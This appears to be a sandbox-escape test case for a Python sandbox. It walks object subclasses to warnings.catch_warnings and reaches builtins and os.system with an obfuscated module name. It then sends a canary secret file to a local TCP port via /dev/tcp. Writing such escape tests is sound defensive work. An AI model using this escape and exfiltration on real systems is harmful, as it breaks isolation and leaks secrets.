# category: escapes
# tries: the classic walk to warnings.catch_warnings, then its module's builtins __import__('os').system(...)
# expect: violation clone

# Most interpreters load warnings at start-up; python -I -S does not.
import warnings  # noqa: F401


def attack(canary):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "catch_warnings":
            b = cls()._module.__builtins__
            imp = b["__import__"] if isinstance(b, dict) else b.__import__
            return imp("o" "s").system("cat %s > /dev/tcp/127.0.0.1/%d" % (canary["secret_file"], canary["tcp_port"]))
    return "catch_warnings not found"
